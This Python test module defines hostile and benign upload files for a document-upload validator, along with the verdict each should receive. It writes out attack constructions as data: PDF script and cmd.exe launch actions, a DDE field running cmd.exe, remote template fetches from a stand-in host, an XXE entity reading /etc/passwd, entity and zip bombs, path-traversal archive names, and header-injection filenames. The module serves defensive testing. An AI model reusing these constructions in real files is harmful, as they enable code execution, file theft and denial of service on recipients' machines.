"""Files that people should not be able to put on each other's machines, each with the verdict it gets, and honest ones beside.

Each is made when it is asked for; nothing harmful is kept in the repository.
"""

from collections.abc import Callable
from dataclasses import dataclass
from functools import partial

from pikepdf import Name, String

from tests.clamd import EICAR
from tests.hostile import images, packages, pdfs
from tests.hostile.packages import MEGABYTE, docx, field, odt, relation, xlsx

TAKEN, REFUSED, QUARANTINED = "taken", "refused", "quarantined"


@dataclass(frozen=True, slots=True)
class Case:
    """A file as sent. ``verdict``: taken (with those ``cautions``), refused with a sentence that says ``told``, or taken and
    then put into quarantine by the scanner."""

    label: str
    filename: str
    data: Callable[[], bytes]
    verdict: str = TAKEN
    told: str = ""
    cautions: tuple[str, ...] = ()


def refused(label: str, filename: str, data: Callable[[], bytes], told: str) -> Case:
    """One that is not taken in."""
    return Case(label, filename, data, REFUSED, told)


def warned(label: str, data: Callable[[], bytes], *cautions: str) -> Case:
    """A PDF that is taken in as it is, and told about."""
    return Case(f"pdf: {label}", "Underlag.pdf", data, cautions=cautions)


def _pdf(label: str, data: Callable[[], bytes], told: str) -> Case:
    return refused(f"pdf: {label}", "Underlag.pdf", data, told)


def _docx(label: str, data: Callable[[], bytes], told: str) -> Case:
    return refused(f"docx: {label}", "Underlag.docx", data, told)


_HTML = b"<!doctype html><html><script>alert(1)</script></html>"
_BROKEN, _BOTH, _OBJECT, _FETCHES, _MACRO = "skadad", "både", "inbäddade objekt", "utifrån", "makron"
_LAUNCH = {"S": Name.Launch, "F": String("cmd.exe")}
_RELS = "word/_rels/document.xml.rels"
_BOMB = "<!DOCTYPE w [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'>]>"

PDFS = (
    Case("pdf: an honest one", "Underlag.pdf", pdfs.made),
    Case("pdf: opens at its first page", "Underlag.pdf", partial(pdfs.made, pdfs.opens_at_a_place)),
    Case("pdf: 5 000 pages", "Underlag.pdf", partial(pdfs.made, pages=5000)),
    warned("script when opened", partial(pdfs.made, pdfs.script_when_opened), "action", "script"),
    warned("script by name", partial(pdfs.made, pdfs.script_by_name), "script"),
    warned("script in an object stream", partial(pdfs.packed, pdfs.script_by_name), "script"),
    warned(
        "script with its name disguised",
        lambda: pdfs.by_hand(b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>"),
        "action",
        "script",
    ),
    warned("script of a page", partial(pdfs.packed, pdfs.page_acts), "action", "script"),
    warned("starts a program", partial(pdfs.packed, pdfs.annotated(Subtype=Name.Link, action=_LAUNCH)), "action"),
    warned(
        "sends a form",
        partial(pdfs.made, pdfs.annotated(action={"S": Name.SubmitForm, "F": String("http://x.example")})),
        "action",
    ),
    warned("another file inside", partial(pdfs.packed, pdfs.attached), "files"),
    warned("a form in XML", partial(pdfs.packed, pdfs.form), "form"),
    warned("film", partial(pdfs.packed, pdfs.annotated(Subtype=Name.RichMedia)), "media"),
    _pdf("with a password", partial(pdfs.locked, "hemligt"), "lösenord"),
    _pdf("with a password for changing it", partial(pdfs.locked, ""), "lösenord"),
    _pdf("without pages", partial(pdfs.made, pages=0), _BROKEN),
    _pdf("cut off", lambda: pdfs.made()[:-40], "avklippt"),
    _pdf("nothing after its first line", lambda: b"%PDF-1.7\n%%EOF\n", _BROKEN),
    _pdf("noise", lambda: b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"%%EOF\n", _BROKEN),
    _pdf("not from its first byte", lambda: b"\n" + pdfs.made(), "inte PDF"),
    _pdf("a page before it", lambda: _HTML + pdfs.made(), "inte PDF"),
    _pdf("a page after its first line", lambda: pdfs.by_hand().replace(b"\n", b"\n%" + _HTML + b"\n", 1), _BOTH),
    _pdf("also a zip", lambda: pdfs.made() + docx()[:-2] + b"\x06\x00%%EOF\n", _BOTH),
    _pdf("PostScript", lambda: b"%!PS-Adobe-3.0\n%%EOF\n", "inte PDF"),
    _pdf("a program", lambda: b"MZ" + bytes(500) + b"%%EOF", "inte PDF"),
    _pdf("a Word document", docx, "inte PDF"),
    _pdf("unpacks to 60 MB", partial(pdfs.bomb, 60), _BROKEN),
    _pdf("a tree of pages without end", partial(pdfs.made, pdfs.endless_pages), _BROKEN),
    Case(  # what cannot be read is nothing to qpdf, as it is to those who show the file
        "pdf: arrays a hundred thousand deep",
        "Underlag.pdf",
        lambda: pdfs.by_hand(b"/X 4 0 R", b"4 0 obj" + b"[" * 100_000 + b"endobj\n"),
    ),
)
WORDS = (
    Case("docx: an honest one", "Underlag.docx", docx),
    Case("docx: a link to a page", "Underlag.docx", lambda: docx({_RELS: relation("hyperlink", "https://x.example/")})),
    Case(
        "docx: written on a template of one's own machine",
        "Underlag.docx",
        lambda: docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///C:\\Mallar\\brev.dotm")}),
    ),
    Case("docx: a chart with its workbook", "Underlag.docx", lambda: docx({"word/embeddings/Kalkyl.xlsx": xlsx()})),
    _docx("with macros", lambda: docx({"word/vbaProject.bin": b"\xd0\xcf"}), _MACRO),
    _docx(
        "macros by their type",
        lambda: docx(
            {"word/a.bin": b"x"},
            declared='<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        _MACRO,
    ),
    _docx("a docm renamed", lambda: docx(main="application/vnd.ms-word.document.macroEnabled.main+xml"), _MACRO),
    _docx(
        "macros in the workbook of a chart",
        lambda: docx({"word/embeddings/Kalkyl.xlsx": xlsx({"xl/vbaProject.bin": b"x"})}),
        _MACRO,
    ),
    _docx("ActiveX", lambda: docx({"word/activeX/activeX1.xml": b"<ax/>"}), _OBJECT),
    _docx("an OLE object", lambda: docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), _OBJECT),
    _docx("an OLE object by another name", lambda: docx({"word/media/a.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}), _OBJECT),
    _docx("another document inside (altChunk)", lambda: docx({_RELS: relation("aFChunk", "a.html", external=False)}), _OBJECT),
    _docx(
        "a template from the net",
        lambda: docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://x.example/a.dotm")}),
        _FETCHES,
    ),
    _docx(
        "a template from another machine",
        lambda: docx({"word/_rels/settings.xml.rels": relation("attachedTemplate", "file:///\\\\x.example\\a.dotm")}),
        _FETCHES,
    ),
    _docx("a picture from the net", lambda: docx({_RELS: relation("image", "https://x.example/a.png")}), _FETCHES),
    _docx(
        "a picture from the net, said to be inside",
        lambda: docx({_RELS: relation("image", "//x.example/a.png", external=False)}),
        _FETCHES,
    ),
    _docx("a frame from the net", lambda: docx({_RELS: relation("frame", "https://x.example/")}), _OBJECT),
    _docx("a field that runs a program", lambda: docx(text=field(" DDE", "AUTO c:\\\\cmd.exe ", "&quot;/k&quot;")), _OBJECT),
    _docx(
        "a field that fetches", lambda: docx(text=field(" INCLUDE", "PICTURE &quot;https://x.example/a.png&quot;")), _FETCHES
    ),
    _docx("entities within entities", lambda: docx(text=(_BOMB + "<w>&b;</w>").encode()), "dokumenttyp"),
    _docx(
        "an entity from the machine",
        lambda: docx({"word/x.xml": b"<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>"}),
        "dokumenttyp",
    ),
    _docx(
        "an entity in UTF-16",
        lambda: docx({"word/x.xml": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y 'z'>]><x>&y;</x>".encode("utf-16")}),
        "dokumenttyp",
    ),
    _docx(
        "an entity far down",
        lambda: docx({"word/x.xml": b"<!--" + b" " * 70_000 + b"--><!DOCTYPE x [<!ENTITY y 'z'>]><x>&y;</x>"}),
        _BROKEN,
    ),
    _docx("XML that is none", lambda: docx(text=b"<w:document><w:body>"), _BROKEN),
    _docx("300 MB in 300 kB", lambda: docx({"word/media/a.bin": bytes(300 * MEGABYTE)}), "packas upp"),
    _docx("more than 100 MB of XML", lambda: docx({"word/a.xml": b"<a>" + b" " * 101 * MEGABYTE}), "packas upp"),
    _docx("a size that is not so", lambda: packages.lying_small(docx({"word/media/a.bin": bytes(101 * MEGABYTE)})), _BROKEN),
    _docx("members that lie over each other", packages.overlapping, _BROKEN),
    _docx("2 000 parts", lambda: docx({f"word/{n}.xml": b"" for n in range(2000)}), "1\u00a0000 delar"),
    _docx("a zip within", lambda: docx({"word/media/a.zip": packages.zipped({"a": b"b"})}), "packad i sig"),
    _docx("a name that leads upwards", lambda: docx({"word/../../a.xml": b"<a/>"}), "leder ut"),
    _docx("an absolute name", lambda: docx({"/etc/cron.d/a": b"a"}), "leder ut"),
    _docx("a name for Windows", lambda: docx({"C:\\a.exe": b"a"}), "leder ut"),
    _docx("a link", packages.with_link, "leder ut"),
    _docx("one name in two ways", lambda: docx({"Word/Document.xml": b"<a/>"}), _BROKEN),
    _docx("with a password, as zip", lambda: packages.flagged_encrypted(docx()), _BROKEN),
    _docx(
        "with a password, as Office has it",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
        "lösenord",
    ),
    _docx("an old doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "äldre Office-format"),
    _docx("something after its end", lambda: docx() + _HTML, _BROKEN),
    _docx("a program before it", lambda: b"MZ" + docx(), "inte DOCX"),
    _docx("also a PDF", lambda: packages.zipped({"a.txt": pdfs.by_hand()}, 0), _BOTH),
    _docx("a workbook", xlsx, "inte DOCX"),
    _docx("cut off", lambda: docx()[:-10], _BROKEN),
    refused(
        "xlsx: values from another file",
        "Kalkyl.xlsx",
        lambda: xlsx(
            {"xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath", "https://x.example/a.xlsx")}
        ),
        _FETCHES,
    ),
    refused(
        "xlsx: runs a program",
        "Kalkyl.xlsx",
        lambda: xlsx({"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"}),
        _OBJECT,
    ),
    refused("xlsx: macros of Excel 4", "Kalkyl.xlsx", lambda: xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"}), _MACRO),
    Case("odt: an honest one", "Brev.odt", odt),
    Case("odt: a link to a page", "Brev.odt", lambda: odt('<text:a xlink:href="https://x.example/">x</text:a>')),
    refused("odt: Basic", "Brev.odt", lambda: odt(more={"Basic/Standard/Module1.xml": b"<m/>"}), _MACRO),
    refused(
        "odt: a script when opened",
        "Brev.odt",
        lambda: odt('<script:event-listener xlink:href="vnd.sun.star.script:a.py"/>'),
        _MACRO,
    ),
    refused(
        "odt: a picture from the net", "Brev.odt", lambda: odt('<draw:image xlink:href="https://x.example/a.png"/>'), _FETCHES
    ),
    refused(
        "odt: a part from another file", "Brev.odt", lambda: odt('<text:section-source xlink:href="../hemligt.odt"/>'), _FETCHES
    ),
    refused("odt: an entity", "Brev.odt", lambda: odt(prolog="<!DOCTYPE a [<!ENTITY b 'c'>]>"), "dokumenttyp"),
)
PICTURES = (
    Case("png: an honest one", "Karta.png", images.picture),
    Case("png: with a text about the place", "Karta.png", images.commented),
    Case("png: with a zip after it", "Karta.png", lambda: images.picture() + docx()),
    Case("jpg: with a place", "Foto.jpg", images.photograph),
    Case("jpg: with a page after it", "Foto.jpg", lambda: images.picture("JPEG") + _HTML + b"\xff\xd9"),
    refused("png: 30 million dots in colour", "Karta.png", lambda: images.png(6000, 5000, bytes(1000), 2), "bildpunkter"),
    refused("png: 900 million dots", "Karta.png", lambda: images.png(30_000, 30_000, bytes(1000)), "bildpunkter"),
    refused("png: 4 000 million millions of dots", "Karta.png", lambda: images.png(2**31 - 1, 2**21, b""), "bildpunkter"),
    refused("png: fewer dots than it says", "Karta.png", lambda: images.png(3000, 3000, bytes(1000)), "skadad"),
    refused("png: cut off", "Karta.png", lambda: images.picture()[:-30], "skadad"),
    refused("png: a drawing that runs", "Karta.png", lambda: b"<svg onload='alert(1)'/>", "inte PNG"),
    refused("jpg: a GIF with a script", "Foto.jpg", lambda: b"GIF89a/*" + bytes(20) + b"*/alert(1)", "inte JPG"),
)
TEXTS = (
    refused("empty", "Underlag.txt", lambda: b"", "tom"),
    refused("more than 25 MB", "Underlag.txt", lambda: b"a" * (25 * MEGABYTE + 1), "25\u00a0MB"),
    Case("25 MB of text", "Underlag.txt", lambda: b"En rad text.\n" * (25 * MEGABYTE // 13)),
    Case("25 MB of letters that take four bytes", "Underlag.txt", lambda: "😀\n".encode() * (5 * MEGABYTE)),
    refused("txt: a page", "Underlag.txt", lambda: b"\xef\xbb\xbf \r\n" + _HTML, "inte text"),
    refused("txt: a script", "Underlag.txt", lambda: b"<script src=//x.example></script>", "inte text"),
    refused("txt: a PDF", "Underlag.txt", pdfs.made, "inte text"),
    refused("txt: control of a terminal", "Underlag.txt", lambda: b"\x1b[2J\x1b]0;x\x07", "inte text"),
    refused("csv: a page", "Rader.csv", lambda: b"<table><tr><td>1", "inte text"),
    refused("svg", "Karta.svg", lambda: b"<svg/>", "Filtypen tas inte emot"),
    refused("html", "Sida.html", lambda: _HTML, "Filtypen tas inte emot"),
    refused("docm", "Brev.docm", docx, "Spara filen som DOCX"),
    refused("a name that turns round", "Underlag\u202etxt.exe", lambda: b"MZ", "Filtypen tas inte emot"),
    Case("a name that turns round within", "Underlag\u202etxt.pdf", pdfs.made),
    # No browser sends it so: the header of its part ends there, and no file has come.
    refused("a name with a line break", "a\r\nX-Evil: 1\r\n\r\n.txt", lambda: b"a", "Välj de filer"),
    Case("a name with a line break as a browser sends it", "a%0D%0AX-Evil: 1.txt", lambda: b"a"),
    Case("a name that leads upwards", "../../../etc/passwd.txt", lambda: b"a"),
    Case("a device of Windows", "CON.txt", lambda: b"a"),
    Case("a name of 300 letters", "å" * 300 + ".txt", lambda: b"a"),
    Case("a name with NUL", "a\x00.txt", lambda: b"a"),
)
INFECTED = (
    Case("the test file", "Prov.txt", lambda: EICAR, QUARANTINED),
    Case("the test file in a docx", "Prov.docx", lambda: docx({"word/media/a.txt": EICAR}), QUARANTINED),
    Case("the test file in an odt", "Prov.odt", lambda: odt(more={"Pictures/a.txt": EICAR}), QUARANTINED),
    Case(
        "the test file in the workbook of a chart",
        "Prov2.docx",
        lambda: docx({"word/embeddings/Kalkyl.xlsx": xlsx({"xl/media/a.txt": EICAR})}),
        QUARANTINED,
    ),
)
CASES = (*PDFS, *WORDS, *PICTURES, *TEXTS, *INFECTED)
